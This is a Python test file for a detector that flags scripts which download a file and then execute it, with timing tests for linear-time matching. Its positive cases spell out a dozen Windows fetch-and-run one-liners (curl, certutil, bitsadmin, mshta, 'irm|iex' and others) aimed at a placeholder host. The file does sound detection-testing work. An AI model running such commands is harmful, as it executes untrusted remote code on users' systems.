from __future__ import annotations

import time

import pytest

from lazaretto.engines.scripts.fetched import started

AT = "http://example.invalid/a"


@pytest.mark.parametrize(
    "text",
    [
        f"curl -o a.exe {AT} && a.exe",
        f'curl {AT} --output "%temp%\\a.exe"\n"%temp%\\a.exe"',
        f"certutil -urlcache -split -f {AT} a.exe && start a.exe",
        f"bitsadmin /transfer j {AT} %temp%\\a.exe\ncall %temp%\\a.exe",
        f"iwr {AT} -outfile a.exe; start-process a.exe",
        f"(new-object net.webclient).downloadfile('{AT}','c:\\x\\a.exe')\nc:\\x\\a.exe",
        "curl http://example.invalid/ > a.txt\ncertutil -decode a.txt a.exe\nstart a.exe",
        f"mshta {AT}",
        f"curl {AT} | cmd",
        f"irm {AT}|iex",
        f"iex (new-object net.webclient).downloadstring('{AT}')",
        f"for /f \"delims=\" %%i in ('curl -s {AT}') do %%i",
    ],
)
def test_fetched_and_started(text: str) -> None:
    assert started(text)


@pytest.mark.parametrize(
    "text",
    [
        f"curl -s {AT} -o status.json\ntype status.json",
        f"curl -o a.exe {AT}\nb.exe",
        f"iwr {AT} -outfile a.msi; msiexec /i a.msi",
        f"echo a.exe\ncurl -o a.exe {AT}",
        f"curl {AT} | findstr ok",
    ],
)
def test_not_started(text: str) -> None:
    assert not started(text)


@pytest.mark.parametrize("piece", ["curl http", "-o a.exe ", "iwr ", "urlcache ", "a.exe", "-o a1.exe;"])
def test_linear(piece: str) -> None:
    began = time.process_time()
    started("http " + piece * (2**20 // len(piece)))
    assert time.process_time() - began < 1
